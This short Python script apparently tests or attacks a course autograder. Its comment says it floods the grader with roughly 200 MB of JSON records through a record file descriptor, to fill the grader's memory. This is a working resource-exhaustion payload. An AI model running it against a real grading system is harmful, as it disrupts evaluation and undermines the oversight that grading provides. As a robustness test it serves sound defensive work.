# Flood the grader with ~200 MB of well-formed records from one cell, to fill the grader's memory.
import os, json, base64
fd = int(os.environ["DLCOURSE_RECORD_FD"])
blob = base64.b64encode(bytes(4 << 20)).decode()
line = (json.dumps({"key": "adam/flood", "value": {"shape": [(4 << 20) // 8], "f64": blob}}) + "\n").encode()
for _ in range(50):
    os.write(fd, line)
